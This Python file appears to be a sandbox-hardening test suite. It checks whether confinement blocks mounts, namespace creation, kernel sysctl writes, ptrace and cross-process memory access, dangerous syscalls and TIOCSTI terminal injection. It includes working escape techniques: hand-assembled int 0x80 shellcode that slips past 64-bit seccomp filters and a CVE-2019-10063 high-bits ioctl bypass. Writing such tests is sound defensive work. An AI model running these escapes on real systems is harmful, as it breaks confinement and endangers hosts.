"""FS11-FS17: out of the sandbox through the kernel's own interfaces."""

import ctypes
import fcntl
import mmap
import os
import platform
import pty
import signal
import struct
import tempfile

from kit import AT_FDCWD, Attempts, idle_child, syscall

NEWNS, NEWUSER, NEWNET, NEWPID, NEWIPC, NEWUTS = 0x00020000, 0x10000000, 0x40000000, 0x20000000, 0x08000000, 0x04000000
MS_BIND, MS_REMOUNT, MS_REC, MNT_DETACH = 4096, 32, 16384, 2


def mounts():
    """FS11. Success: any change of what is mounted, or of the root."""
    tries = Attempts()
    here = tempfile.mkdtemp(dir=os.getcwd()).encode()
    tmpfs = lambda: syscall("mount", b"none", here, b"tmpfs", 0, None) == 0  # noqa: E731
    tries.attempt("mount", tmpfs)
    tries.attempt("mount proc", lambda: syscall("mount", b"proc", here, b"proc", 0, None) == 0)
    tries.attempt("bind", lambda: syscall("mount", b"/", here, None, MS_BIND | MS_REC, None) == 0)
    tries.attempt("remount", lambda: syscall("mount", None, b"/", None, MS_BIND | MS_REMOUNT, None) == 0)
    tries.attempt("umount2", lambda: syscall("umount2", b"/dev/shm", MNT_DETACH) == 0)
    tries.attempt("open_tree", lambda: syscall("open_tree", AT_FDCWD, b"/", 1) >= 0)
    no_change = struct.pack("QQQQ", 0, 0, 0, 0)
    tries.attempt("open_tree_attr", lambda: syscall("open_tree_attr", AT_FDCWD, b"/", 1, no_change, 32) >= 0)
    tries.attempt("fsopen", lambda: syscall("fsopen", b"tmpfs", 0) >= 0)
    tries.attempt("fspick", lambda: syscall("fspick", AT_FDCWD, b"/", 0) >= 0)

    def or_plain_descriptor(name, *arguments):
        """The descriptor that the call before should have given; without it, any: the call itself must refuse."""
        try:
            return syscall(name, *arguments)
        except OSError:
            return os.open(here, os.O_RDONLY)

    def configured():
        context = or_plain_descriptor("fsopen", b"tmpfs", 0)
        return context, syscall("fsconfig", context, 6, None, None, 0)

    tries.attempt("fsconfig", lambda: configured()[1] == 0)

    def fsmount():
        context = or_plain_descriptor("fsopen", b"tmpfs", 0)
        try:
            syscall("fsconfig", context, 6, None, None, 0)
        except OSError:
            pass  # fsmount must refuse by itself
        return syscall("fsmount", context, 0, 0) >= 0

    tries.attempt("fsmount", fsmount)

    def move_mount():
        tree = or_plain_descriptor("open_tree", AT_FDCWD, b"/dev", 1)
        return syscall("move_mount", tree, b"", AT_FDCWD, here, 4) == 0

    tries.attempt("move_mount", move_mount)

    def setattr_():
        tree = or_plain_descriptor("open_tree", AT_FDCWD, b"/dev", 1)
        change = struct.pack("QQQQ", 1, 0, 0, 0)
        return syscall("mount_setattr", tree, b"", 0x1000, change, len(change)) == 0

    tries.attempt("mount_setattr", setattr_)

    def chroot():
        os.chroot(here)
        return True

    tries.isolated("chroot", chroot)

    def pivot():
        root = os.fsencode(os.getcwd()) if os.path.ismount(os.getcwd()) else here
        os.makedirs(root + b"/old", exist_ok=True)
        return syscall("pivot_root", root, root + b"/old") == 0

    tries.isolated("pivot_root", pivot)
    return tries.report()


def namespaces():
    """FS12. Success: a namespace of our own, with it every capability inside it."""
    tries = Attempts()
    flags = {"user": NEWUSER, "user and mount": NEWUSER | NEWNS, "net": NEWNET, "ipc": NEWIPC, "uts": NEWUTS}
    for name, flag in flags.items():
        tries.isolated(f"unshare {name}", lambda flag=flag: syscall("unshare", flag) == 0)
    tries.isolated("setns", lambda: syscall("setns", os.open("/proc/self/ns/net", os.O_RDONLY), 0) == 0)

    def clone(flag):
        child = syscall("clone", flag | signal.SIGCHLD, 0, 0, 0, 0)
        if child == 0:
            os._exit(0)
        os.waitpid(child, 0)
        return child > 0

    tries.isolated("clone user", lambda: clone(NEWUSER))
    tries.isolated("clone pid", lambda: clone(NEWUSER | NEWPID))

    def clone3():
        arguments = struct.pack("QQQQQQQQQQQ", NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
        child = syscall("clone3", ctypes.c_char_p(arguments), len(arguments))
        if child == 0:
            os._exit(0)
        os.waitpid(child, 0)
        return child > 0

    tries.isolated("clone3 user", clone3)
    return tries.report()


def foreign_calls():
    """FS12 by the back door: the same call by the 32-bit table, which a filter for 64-bit numbers does not see."""
    tries = Attempts()

    def int80():
        # mov eax, 310 (unshare); mov ebx, CLONE_NEWUSER; int 0x80; ret
        code = b"\x53\xb8" + struct.pack("<I", 310) + b"\xbb" + struct.pack("<I", NEWUSER) + b"\xcd\x80\x5b\xc3"
        page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(code)
        call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
        answer = call()
        if answer < 0:
            raise OSError(-answer, "unshare by int 0x80")
        return answer == 0

    if platform.machine() == "x86_64":
        tries.isolated("unshare by int 0x80", int80)
        tries.isolated("unshare by the x32 table", lambda: syscall("unshare (x32)", NEWUSER) == 0)
    return tries.report()


def switches(devices, cgroup_roots):
    """FS13. Success: a switch of the host's kernel can be written. Nothing is changed: what was there is written."""
    tries = Attempts()

    def rewrite(path):
        with open(path) as source:
            value = source.read()
        with open(path, "w") as out:
            out.write(value)
        return True

    def writable(path):
        os.close(os.open(path, os.O_WRONLY))
        return True

    tries.attempt("core_pattern", lambda: rewrite("/proc/sys/kernel/core_pattern"))
    tries.attempt("hostname", lambda: rewrite("/proc/sys/kernel/hostname"))
    for name in ("kernel/pid_max", "kernel/msgmax", "kernel/shmmax", "fs/mqueue/queues_max"):
        tries.attempt(name, lambda name=name: rewrite(f"/proc/sys/{name}"))  # of the sandbox's own namespaces
    for path in devices:
        tries.attempt(path, lambda path=path: writable(path))

    def cgroup():
        for root in cgroup_roots:
            path = os.path.join(root, f"canary-{os.getpid()}")
            os.mkdir(path)
            os.rmdir(path)
        return True

    tries.attempt("cgroup", cgroup)
    return tries.report()


def forbidden_calls():
    """FS16. Success: the kernel served a call that sandboxed code has no business making."""
    tries = Attempts()
    buffer = ctypes.create_string_buffer(256)

    def on_child(action):
        with idle_child() as child:
            return action(child)

    def vector(address):
        return struct.pack("PN", address, 8)

    secret = ctypes.create_string_buffer(b"a secret of another process")
    remote = ctypes.addressof(secret)
    tries.attempt("ptrace attach", lambda: on_child(lambda c: syscall("ptrace", 16, c, 0, 0) == 0))
    tries.attempt("ptrace seize", lambda: on_child(lambda c: syscall("ptrace", 0x4206, c, 0, 0) == 0))
    for name in ("process_vm_readv", "process_vm_writev"):
        tries.attempt(
            name,
            lambda name=name: on_child(
                lambda c: syscall(name, c, vector(ctypes.addressof(buffer)), 1, vector(remote), 1, 0) == 8
            ),
        )
    tries.attempt(
        "pidfd_getfd", lambda: on_child(lambda c: syscall("pidfd_getfd", syscall("pidfd_open", c, 0), 1, 0) >= 0)
    )
    tries.attempt("kcmp", lambda: on_child(lambda c: syscall("kcmp", os.getpid(), c, 1, 0, 0) >= 0))
    bpf_map = struct.pack("IIIII", 2, 4, 4, 1, 0) + bytes(100)
    tries.attempt("bpf", lambda: syscall("bpf", 0, bpf_map, 72) >= 0)
    software_clock = struct.pack("IIQ", 1, 128, 0) + bytes(112)
    tries.attempt("perf_event_open", lambda: syscall("perf_event_open", software_clock, 0, -1, -1, 0) >= 0)
    tries.attempt("userfaultfd", lambda: syscall("userfaultfd", 1) >= 0)
    tries.attempt("io_uring_setup", lambda: syscall("io_uring_setup", 4, buffer) >= 0)
    tries.attempt("add_key", lambda: syscall("add_key", b"user", b"canary", b"value", 5, -2) > 0)
    tries.attempt("request_key", lambda: syscall("request_key", b"user", b"canary", None, -2) > 0)
    tries.attempt("keyctl", lambda: syscall("keyctl", 0, -2, 1) > 0)

    def by_handle():
        handle = ctypes.create_string_buffer(struct.pack("II", 128, 0) + bytes(128))
        mount = ctypes.c_int()
        syscall("name_to_handle_at", AT_FDCWD, os.fsencode(os.getcwd()), handle, ctypes.byref(mount), 0)
        return syscall("open_by_handle_at", os.open(os.getcwd(), os.O_RDONLY), handle, 0) >= 0

    tries.attempt("open_by_handle_at", by_handle)
    tries.attempt("acct", lambda: syscall("acct", None) == 0)
    name = os.uname().nodename.encode()
    tries.attempt("sethostname", lambda: syscall("sethostname", name, len(name)) == 0)
    return tries.report()


def terminal():
    """FS17. Success: a character pushed into the input of a terminal (with a real one: the host user's shell)."""
    tries = Attempts()

    def push():
        primary, secondary = pty.openpty()
        os.setsid()
        fcntl.ioctl(secondary, 0x540E, 0)  # TIOCSCTTY: the terminal is ours now
        fcntl.ioctl(secondary, 0x5412, b"x")  # TIOCSTI
        return primary > 0

    tries.isolated("TIOCSTI", push)

    def push_with_high_bits():
        """CVE-2019-10063: a filter that compares 64 bits lets a number with high bits pass; the kernel cuts them."""
        primary, secondary = pty.openpty()
        os.setsid()
        fcntl.ioctl(secondary, 0x540E, 0)
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_char_p]
        if libc.ioctl(secondary, 0x1_0000_5412, b"x") < 0:
            raise OSError(ctypes.get_errno(), "TIOCSTI with high bits")
        return primary > 0

    tries.isolated("TIOCSTI with high bits", push_with_high_bits)
    return tries.report()
